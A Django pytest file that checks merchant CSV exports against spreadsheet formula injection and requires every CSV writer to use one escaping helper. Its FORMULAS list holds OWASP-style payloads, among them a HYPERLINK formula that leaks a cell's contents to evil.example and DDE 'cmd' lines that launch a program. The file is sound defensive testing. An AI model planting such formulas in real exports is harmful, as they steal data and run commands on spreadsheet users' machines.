"""CSV exports are safe to open in a spreadsheet (issue 11, item 6).

A shop (or a shopper typing into its checkout) controls names, order numbers, consent wording and user
agents; all of them reach the merchant's CSV files. Whatever they say, no cell may start a formula.
"""

import copy
import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from billing.invoices import invoice_issue
from billing.models import Attribution
from stores.csv_export import FORMULA_STARTS, csv_cell
from stores.models import Cart, Order
from tests.billing.factories import click_add, text_send
from tests.stores.test_generic_webhooks import CART_UPDATED

pytestmark = pytest.mark.django_db

# Payloads from the OWASP CSV-injection page and its follow-ups.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def _cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


def _formula_cells(content: bytes) -> list[str]:
    return [
        cell
        for cell in _cells(content)
        if cell.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(cell)
    ]


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_consent_log_csv_holds_no_formula_a_shop_sent(client, store, owner, post_generic, formula):
    # given a signed delivery whose every free-text field is a formula
    payload = copy.deepcopy(CART_UPDATED)
    payload["customer"]["first_name"] = formula[:150]
    consent = payload["customer"]["sms_consent"]
    consent.update(source=formula[:40], text_shown=formula, user_agent=formula, language=formula[:16])
    assert post_generic(store, payload).status_code == 200

    # when the owner downloads the consent log
    client.force_login(owner)
    response = client.get(reverse("dashboard:consent_csv", kwargs={"store_id": store.id}))

    # then the formula is there (as the shop sent it, less surrounding blanks), as text
    content = b"".join(response.streaming_content)
    assert response.status_code == 200
    assert _formula_cells(content) == []
    assert "'" + formula.strip() in _cells(content)


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_invoice_csv_holds_no_formula_a_shop_sent(client, store, owner, post_generic, formula):
    # given a texted cart, clicked, whose order a shop named with a formula
    assert post_generic(store, CART_UPDATED).status_code == 200
    cart = Cart.objects.get(store=store)
    placed = timezone.now() - timedelta(days=40)
    text = text_send(cart=cart, at=placed - timedelta(hours=2))
    click_add(cart=cart, at=placed - timedelta(hours=1), message=text)
    order = {
        "event": "order.created",
        "occurred_at": placed.isoformat(),
        "order": {
            "id": "wc-order-77",
            "name": formula[:64],
            "cart_id": cart.external_id,
            "currency": "EUR",
            "total": "124.90",
            "placed_at": placed.isoformat(),
        },
    }
    assert post_generic(store, order).status_code == 200
    attribution = Attribution.objects.get(order=Order.objects.get(store=store))
    assert attribution.fee > 0
    invoice = invoice_issue(store=store, month=placed.date().replace(day=1))

    # when the owner downloads the invoice as CSV
    client.force_login(owner)
    url = reverse("billing:page_invoice_csv", kwargs={"store_id": store.id, "invoice_id": invoice.id})
    response = client.get(url)

    # then no cell starts a formula, and the order's name is still there to read
    assert response.status_code == 200
    assert _formula_cells(response.content) == []
    assert "'" + formula[:64].strip() in _cells(response.content)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5.00", "-5.00"),
        ("+14155552671", "+14155552671"),
        ("Jamie", "Jamie"),
        (None, ""),
        (12, "12"),
    ],
)
def test_the_one_cell_rule(value, written):
    assert csv_cell(value) == written


def test_every_csv_writer_in_the_project_goes_through_the_one_helper():
    root = Path(__file__).resolve().parents[2]
    sources = [
        path
        for app in ("cartrecovery", "stores", "flows", "conversations", "billing")
        for path in (root / app).rglob("*.py")
        if path.name != "csv_export.py"
    ]
    direct = [
        str(path.relative_to(root))
        for path in sources
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert direct == []
